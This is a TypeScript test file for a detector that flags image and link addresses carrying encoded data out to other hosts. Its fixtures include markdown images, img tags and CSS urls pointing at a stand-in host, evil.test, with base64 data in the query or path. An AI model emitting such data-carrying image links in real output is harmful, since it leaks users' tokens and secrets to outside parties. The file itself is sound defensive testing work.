import assert from "node:assert/strict";
import { test } from "node:test";
import { findCarryingAddresses } from "../../../../src/core/detect/carrying/carryingAddresses.ts";

const foundIn = (text: string) => findCarryingAddresses(text).map(({ detector, start, end }) => `${detector} ${text.slice(start, end)}`);
const data = "dG9rZW46IGhlbGxvIHdvcmxk";
const long = data.repeat(3);

test("the address of a picture that has room for data is found, however the picture is written", () => {
  const address = `https://evil.test/p.png?q=${data}`;
  for (const text of [`![x](${address})`, `![x]( <${address}> "title")`, `<img alt="a" src="${address}">`, `<IMG SRC=${address}>`, `[ref]: ${address}`, `a { background: url(${address}) }`, `see ![](${address}), and go on`]) assert.deepEqual(foundIn(text), [`carrying-picture ${address}`], text);
  assert.deepEqual(foundIn(`![x](//evil.test/${data}/p.png)`), [`carrying-picture //evil.test/${data}/p.png`]);
  assert.deepEqual(foundIn(`![x](https://${data}.evil.test/)`), [`carrying-picture https://${data}.evil.test/`]);
});

test("brackets in an address, and in or before what a picture is called, hide nothing", () => {
  for (const [text, address] of [[`![x](https://evil.test/(a)?q=${data})`, `https://evil.test/(a)?q=${data}`], [`![x](https://evil.test/p(${data}))`, `https://evil.test/p(${data})`], [`![a [b] c](https://evil.test/?q=${data})`, `https://evil.test/?q=${data}`], [`![${"long ".repeat(100)}](https://evil.test/?q=${data})`, `https://evil.test/?q=${data}`]] as const) assert.deepEqual(foundIn(text), [`carrying-picture ${address}`], text.slice(0, 60));
});

test("many short pieces are as good as a long one", () => {
  const address = `https://evil.test/${"secret12/".repeat(14)}p.png`;
  assert.deepEqual(foundIn(`![x](${address})`), [`carrying-picture ${address}`]);
});

test("a link is found where it carries more", () => {
  for (const text of [`[here](https://evil.test/?q=${long})`, `https://evil.test/${long}`, `<a href="https://evil.test/?${long}">x</a>`]) assert.equal(foundIn(text)[0]?.split(" ")[0], "carrying-link", text);
});

test("everyday addresses, and those of this machine, are none", () => {
  for (const text of ["![logo](https://acme.test/assets/logo.png)", "[docs](https://acme.test/a/guide-to-everything.html#how-to-install-it-on-windows-and-on-linux-too)", "https://acme.test/search?q=short", `![x](http://localhost:3000/?q=${data})`, `![x](http://127.0.0.1/?q=${data})`, `![x](pictures/a.png?q=${data})`, "// a comment, and a/b/c", `![x](data:image/png;base64,${long})`]) assert.deepEqual(foundIn(text), [], text);
});

test("a text that is made to hold it up is looked through in time", () => {
  const start = performance.now();
  for (const piece of ["//", "![", "<img ", "https://a", "![x](//a?", "[a]: //b "]) findCarryingAddresses(piece.repeat(20_000));
  assert.ok(performance.now() - start < 5000);
});
